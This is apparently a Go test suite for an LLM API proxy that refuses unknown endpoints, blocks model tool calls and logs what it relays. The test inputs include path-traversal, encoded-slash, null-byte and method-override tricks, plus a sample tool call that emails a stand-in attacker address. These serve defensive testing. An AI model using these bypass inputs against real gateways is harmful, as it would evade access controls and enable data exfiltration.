package proxy_test

import (
	"bytes"
	"context"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/remit-project/remit/internal/proxy"
)

// request lets a proxy answer a request as it came over the wire, and reports whether the
// upstream was asked.
func request(t *testing.T, h http.Handler, method, target string, header ...string) *httptest.ResponseRecorder {
	t.Helper()
	r := httptest.NewRequest(method, target, strings.NewReader(`{"messages":[{"role":"user","content":"hello"}],"input":"hello"}`))
	r.Header.Set("Content-Type", "application/json")
	for i := 0; i+1 < len(header); i += 2 {
		r.Header.Set(header[i], header[i+1])
	}
	r.Host = "localhost"
	w := httptest.NewRecorder()
	h.ServeHTTP(w, r)
	return w
}

// routed says what becomes of a request: how it was answered, and whether the
// upstream saw it.
func routed(t *testing.T, change func(*proxy.Options), method, target string, header ...string) (status int, asked bool, body string) {
	t.Helper()
	u := newUpstream(t, reply{status: 200, kind: "application/json", body: undecidedCalls})
	w := request(t, newProxyHandler(t, u, change), method, target, header...)
	return w.Code, u.count() > 0, w.Body.String()
}

// undecidedCalls is an answer in every dialect that the proxy doesn't decide: when it passes
// unchanged, it was not decided.
const undecidedCalls = `{"candidates":[{"content":{"parts":[{"functionCall":{"name":"send_email","args":{"to":"eve@evil.example"}}}]}}]}`

// What isn't decided is refused, by method and path, however it is spelled, except for the forms
// that carry no calls.
func TestWhatIsNotDecidedIsRefused(t *testing.T) {
	for _, target := range []string{
		// Gemini's and Vertex's own APIs, and other ways to ask a model.
		"/v1beta/models/gemini-2.5-pro:generateAnswer", "/v1beta/models/gemini-2.5-pro:predictLongRunning", "/v1beta/cachedContents", "/v1beta/interactions",
		"/v1/projects/p/locations/l/publishers/mistralai/models/m:rawPredict", "/v1/projects/p/locations/l/publishers/mistralai/models/m:streamRawPredict",
		"/v1beta1/projects/p/locations/l/endpoints/openapi:predict", "/v1alpha/models/x:bidiGenerateContent", "/v1beta/tunedModels/x:transferOwnership",
		"/v1beta/models/gemini:rawPredict/", "/V1BETA/MODELS/GEMINI:RAWPREDICT", "/v1beta/models/gemini:batchGenerateContent",
		"/v1beta/models/a:b:rawPredict", "/v1beta/models/files:generateContent/files", "/v1/models/x:generateContent/embeddings",
		"/v1/models/owner/name/predictions", "/v1/predictions", "/v1/models", "/v1/models/x", "/v1/models/x/y", "/v1/models/x/infer",
		// OpenAI's and Anthropic's that answer elsewhere.
		"/v1/threads/t/runs", "/v1/threads/t/messages", "/v1/Threads/t/Messages", "/v1/threads/runs", "/v1/assistants", "/v1/batches", "/v1/messages/batches", "/v1/realtime/sessions",
		"/v1/conversations", "/v1/conversations/c/items", "/v1/completions", "/v1/complete", "/v1/responses/r/cancel", "/v1/responses/compact", "/v1/chat/completions/x", "/v1/messages/m",
		// Files, containers and skills only in the forms that are known.
		"/v1/files/f", "/v1/files/f/run", "/v1/containers/c", "/v1/containers/c/exec", "/v1/skills/s/run", "/v1/uploads/u", "/v1/vector_stores/v/chat", "/v1/audio/chat", "/v1/images",
		"/v1/chat/completions/embeddings", "/v1/responses/files", "/v1/skills/chat", "/v1/vector_stores/Generate", "/v1/vector_stores/responses/search", "/v1/Chat/Completions/Files", "/v1/messages/m/tokenize", "/api/generate", "/api/chat", "/", "/v1",
	} {
		if status, asked, body := routed(t, nil, http.MethodPost, target); status != http.StatusForbidden || asked || !strings.Contains(body, "--pass") {
			t.Errorf("POST %s: %d, the upstream was asked: %t, %s", target, status, asked, body)
		}
	}
	for _, target := range []string{"/v1/responses/r", "/v1/chat/completions/c", "/v1/batches", "/v1/messages/batches/b/results", "/v1/realtime", "/v1/models/gemini:generateContent", "/v1/models/x/y/z", "/v1/threads/t/messages", "/v1/chat/completions"} {
		if status, asked, _ := routed(t, nil, http.MethodGet, target); status != http.StatusForbidden || asked {
			t.Errorf("GET %s: %d, the upstream was asked: %t", target, status, asked)
		}
	}
	for _, method := range []string{"PUT", "PATCH", "DELETE", "PROPFIND", "post", "SEARCH"} {
		for _, target := range []string{"/v1/models/x", "/v1/chat/completions", "/v1/embeddings"} {
			if status, asked, _ := routed(t, nil, method, target); status != http.StatusForbidden || asked {
				t.Errorf("%s %s: %d, the upstream was asked: %t", method, target, status, asked)
			}
		}
	}
}

// A path or a header that an upstream could read as another request is refused.
func TestWhatCanBeReadAsAnotherRequestIsRefused(t *testing.T) {
	for _, target := range []string{
		"/v1//models", "//v1/models", "/v1/models//", "/v1/./models", "/v1/files/../chat/completions", "/v1/models/..", "/v1/models/%2e%2e", "/v1/files/x%2f..%2fchat", "/v1/models/x%2f%2fy",
		`/v1/files/..%5C..%5Cchat%5Ccompletions`, "/v1/files/x%3Fy", "/v1/files/x;y", "/v1/models/%00", "/v1/models/%0a", "/v1/models/x%20", "/v1/mod%C5%BFels", "/v1/models/%E2%84%AA",
	} {
		if status, asked, body := routed(t, nil, http.MethodGet, target); status != http.StatusBadRequest || asked {
			t.Errorf("%s: %d, the upstream was asked: %t, %s", target, status, asked, body)
		}
	}
	for _, target := range []string{"/v1/models%2Fx", "/v1%2fembeddings", "/v1/chat%2fcompletions", "/v1/%66iles%2f"} {
		if status, asked, body := routed(t, nil, http.MethodPost, target); status != http.StatusBadRequest || asked {
			t.Errorf("POST %s: %d, the upstream was asked: %t, %s", target, status, asked, body)
		}
	}
	if status, asked, _ := routed(t, nil, http.MethodGet, "/v1/responses%2fr1"); status != http.StatusForbidden || asked {
		t.Errorf("an escaped slash: %d, the upstream was asked: %t", status, asked)
	}
	for _, header := range []string{"X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "x-http-method-override", "X-Original-URL", "X-Rewrite-URL"} {
		if status, asked, _ := routed(t, nil, http.MethodGet, "/v1beta/models/gemini", header, "POST"); status != http.StatusBadRequest || asked {
			t.Errorf("%s: %d, the upstream was asked: %t", header, status, asked)
		}
	}
	if status, asked, _ := routed(t, nil, http.MethodGet, "/v1/models", "Connection", "Upgrade", "Upgrade", "websocket"); status != http.StatusForbidden || asked {
		t.Errorf("another protocol: %d, the upstream was asked: %t", status, asked)
	}
}

// The names of models have slashes, which clients escape; and some clients ask for another
// version of HTTP, which the proxy need not offer.
func TestOrdinaryClientsAreRelayed(t *testing.T) {
	u := newUpstream(t, reply{status: 200, kind: "application/json", body: "{}"}, reply{status: 200, kind: "application/json", body: "{}"})
	h := newProxyHandler(t, u, nil)
	if w := request(t, h, http.MethodGet, "/v1/models/meta-llama%2FLlama-4"); w.Code != http.StatusOK || u.request(0).path != "/v1/models/meta-llama%2FLlama-4" {
		t.Errorf("an escaped slash: %d %s, the upstream got %s", w.Code, w.Body, u.request(0).path)
	}
	w := request(t, h, http.MethodGet, "/v1/models", "Connection", "Upgrade, HTTP2-Settings", "Upgrade", "h2c", "HTTP2-Settings", "AAMAAABk")
	if got := u.request(1).header; w.Code != http.StatusOK || got.Get("Upgrade") != "" || got.Get("Http2-Settings") != "" {
		t.Errorf("HTTP/2: %d %s, the upstream got %v", w.Code, w.Body, got)
	}
}

// An upstream may answer before it has the whole request, and what it says is passed on whole.
func TestARelayedAnswerMayBeginEarly(t *testing.T) {
	u := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		control := http.NewResponseController(w)
		if err := control.EnableFullDuplex(); err != nil {
			t.Error(err)
		}
		for buf := make([]byte, 1); ; {
			if _, err := io.ReadFull(r.Body, buf); err != nil {
				return
			}
			w.Write(buf)
			control.Flush()
		}
	}))
	t.Cleanup(u.Close)
	s := newProxy(t, &upstream{Server: u, t: t}, nil)

	asking, more := io.Pipe()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	context.AfterFunc(ctx, func() { more.Close() })
	r, err := http.NewRequestWithContext(ctx, http.MethodPost, s.URL+"/v1/embeddings", asking)
	if err != nil {
		t.Fatal(err)
	}
	go io.WriteString(more, "a")
	answer, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer answer.Body.Close()

	heard := make([]byte, 1)
	if _, err := io.ReadFull(answer.Body, heard); err != nil {
		t.Fatal(err)
	}
	go func() {
		io.WriteString(more, "bc")
		more.Close()
	}()
	if rest, err := io.ReadAll(answer.Body); string(heard)+string(rest) != "abc" || err != nil {
		t.Errorf("heard %s%s, %v", heard, rest, err)
	}
}

// What is decided is decided in every spelling by which a server could find it:
// nothing passes, as the answer is none of the dialect's.
func TestWhatIsDecidedInEverySpelling(t *testing.T) {
	for _, target := range []string{
		"/v1/chat/completions", "/v1/chat/completions/", "/v1/Chat/Completions", "/v1/models/x/Chat/Completions", "/openai/deployments/gpt-5/chat/completions?api-version=1", "/chat/v1/chat/completions",
		"/v1/responses", "/V1/RESPONSES/", "/v1/messages", "/anthropic/v1/Messages?beta=true", "/v1beta/openai/chat/completions",
	} {
		if status, asked, body := routed(t, nil, http.MethodPost, target); status != http.StatusBadGateway || !asked || strings.Contains(body, "eve@evil.example") {
			t.Errorf("%s: %d, the upstream was asked: %t, %s", target, status, asked, body)
		}
	}
}

// What carries no calls is relayed, and each has its line in the log. What is
// refused has one as well.
func TestWhatIsRelayedIsLogged(t *testing.T) {
	var log bytes.Buffer
	var mu sync.Mutex
	logged := func(o *proxy.Options) {
		o.Log = slog.New(slog.NewTextHandler(writer(func(p []byte) (int, error) { mu.Lock(); defer mu.Unlock(); return log.Write(p) }), nil))
		o.Pass = []string{"/api/tags"}
	}
	for _, request := range []string{
		"GET /v1/models", "HEAD /v1/models", "GET /v1/models/gpt-5.4", "GET /v1/models/org/name", "GET /v1/models/", "POST /v1/embeddings", "POST /v1/Embeddings", "POST /openai/deployments/e/embeddings",
		"POST /v1/messages/count_tokens", "POST /v1/responses/input_tokens", "POST /v1/moderations", "POST /v2/rerank", "POST /tokenize", "GET /health",
		"POST /v1/files", "GET /v1/files", "GET /v1/files/file-1", "DELETE /v1/files/file-1", "GET /v1/files/file-1/content", "POST /v1/uploads/u/parts",
		"POST /v1/images/generations", "POST /v1/audio/transcriptions", "POST /v1/vector_stores/v/search", "DELETE /v1/vector_stores/v/files/f",
		"POST /v1/containers", "GET /v1/containers/c/files/f/content", "POST /v1/skills", "GET /v1/skills/s/versions/2", "POST /api/tags",
	} {
		method, target, _ := strings.Cut(request, " ")
		status, asked, body := routed(t, logged, method, target)
		if status != http.StatusOK || !asked {
			t.Errorf("%s: %d, the upstream was asked: %t, %s", request, status, asked, body)
		}
		if line := "msg=\"relayed undecided\" method=" + method + " path=" + target + "\n"; !strings.Contains(log.String(), line) {
			t.Errorf("%s is not in the log:\n%s", request, log.String())
		}
	}
	routed(t, logged, http.MethodPost, "/v1/batches?key=secret")
	if !strings.Contains(log.String(), "msg=refused method=POST path=/v1/batches\n") {
		t.Errorf("a refused request is not in the log:\n%s", log.String())
	}
}

// A refusal says what to do, and a proxy that only watches refuses nothing of
// it.
func TestRefusalsSayWhatToDo(t *testing.T) {
	for target, want := range map[string]string{
		"/v1beta/models/gemini:batchGenerateContent": "use generateContent",
		"/v1beta/cachedContents":                     "send it with each request",
		"/v1/batches":                                "one request each",
		"/v1/threads/t/messages":                     "chat/completions or responses",
		"/api/chat":                                  "use chat/completions, responses or messages",
	} {
		if _, _, body := routed(t, nil, http.MethodPost, target); !strings.Contains(body, want) {
			t.Errorf("%s: %s, want %q", target, body, want)
		}
		if status, asked, _ := routed(t, func(o *proxy.Options) { o.Shadow = true }, http.MethodPost, target); status != http.StatusOK || !asked {
			t.Errorf("%s watched: %d, the upstream was asked: %t", target, status, asked)
		}
	}
}
